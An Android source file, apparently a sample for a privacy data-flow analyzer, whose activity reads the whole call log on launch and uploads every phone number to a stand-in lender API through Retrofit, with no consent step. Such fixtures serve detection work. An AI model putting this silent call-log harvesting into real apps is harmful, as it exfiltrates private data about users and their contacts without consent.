package com.example.flows.calls_retrofit;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;
import retrofit2.Retrofit;

/** The call log goes through an interface that Retrofit implements. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Retrofit retrofit = new Retrofit.Builder().baseUrl("https://api.lender.example/").build();
        Api api = retrofit.create(Api.class);
        Cursor cursor = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        List<CallRow> rows = new ArrayList<CallRow>();
        while (cursor.moveToNext()) {
            CallRow row = new CallRow();
            row.number = cursor.getString(cursor.getColumnIndex(CallLog.Calls.NUMBER));
            rows.add(row);
        }
        api.upload(rows).enqueue(null);
    }

}
